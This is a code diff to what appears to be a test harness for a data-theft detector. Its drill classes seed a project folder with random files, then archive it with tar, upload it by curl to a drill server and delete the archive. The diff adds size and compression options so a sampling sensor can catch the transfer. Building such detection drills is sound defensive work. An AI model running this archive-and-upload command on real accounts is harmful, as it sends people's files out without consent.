@@ -38,7 +38,7 @@ class LoginDrill:
         self._host = host
         self._keys = {name: host.add_user(name, secrets.token_urlsafe(12)) for name in (INSIDER, TWIN)}
         for name in (INSIDER, TWIN):
-            _seed(host.homes / name / "project")
+            _seed(host.homes / name / "project", 2)
         self.watched = Watched(host.logs, host.homes, (host.homes,))
         self.describes = f"ssh {INSIDER}@{host.address}"
 
@@ -48,17 +48,20 @@ class LoginDrill:
 
     def take(self, person: str, server: Server) -> None:
         """Log in as person, archive the project and upload it."""
-        done = self._host.ssh(person, _theft(server, "$HOME"), key=self._keys[person])
+        done = self._host.ssh(person, _theft(server, "$HOME", "czf"), key=self._keys[person])
         if done.returncode != 0:
             raise CommandFailed(f"the drill's login of {person} failed: {done.stderr.strip()}")
 
 
 class LocalDrill:
-    """Without root there are no accounts to make: this user does it, and is known by uid."""
+    """Without root there are no accounts to make: this user does it, and is known by uid.
+
+    It takes more, and does not compress it: a sensor that may only look now and then must see it pass.
+    """
 
     def __init__(self, folder: Path) -> None:
         self._folder = folder
-        _seed(folder / "project")
+        _seed(folder / "project", 10)
         (folder / "log").mkdir()
         self.watched = Watched(folder / "log", folder, (folder / "project",))
         self.describes = "archive and upload, in a shell"
@@ -69,7 +72,7 @@ class LocalDrill:
 
     def take(self, person: str, server: Server) -> None:
         """Archive the project and upload it; person is this user, whoever was asked for."""
-        command = ["sh", "-c", _theft(server, shlex.quote(str(self._folder)))]
+        command = ["sh", "-c", _theft(server, shlex.quote(str(self._folder)), "cf")]
         done = subprocess.run(command, capture_output=True, text=True, timeout=60, check=False)
         if done.returncode != 0:
             raise CommandFailed(f"the drill of {person} failed: {done.stderr.strip()}")
@@ -85,16 +88,18 @@ def make_drill(folder: Path) -> Iterator[LoginDrill | LocalDrill]:
         yield LoginDrill(host)
 
 
-def _theft(server: Server, home: str) -> str:
+def _theft(server: Server, home: str, how: str) -> str:
     archive = f"{home}/report.tgz"
     url = f"http://{server.address}:{server.port}/report.tgz"
-    return f"tar czf {archive} -C {home} project && curl -sS --noproxy '*' -T {archive} {url} && rm {archive}"
+    return (
+        f"tar {how} {archive} -C {home} project && curl -sS --noproxy '*' -T {archive} {url} && rm {archive}"
+    )
 
 
-def _seed(folder: Path) -> None:
+def _seed(folder: Path, megabytes: int) -> None:
     """Fill folder with files that do not compress, so that the archive is as large as they are."""
     folder.mkdir(parents=True)
     for number in range(_FILES):
-        (folder / f"design-{number:02d}.bin").write_bytes(os.urandom(2 * _MEGABYTE))
+        (folder / f"design-{number:02d}.bin").write_bytes(os.urandom(megabytes * _MEGABYTE))
     for path in (folder, *folder.iterdir()):
         path.chmod(0o755 if path.is_dir() else 0o644)
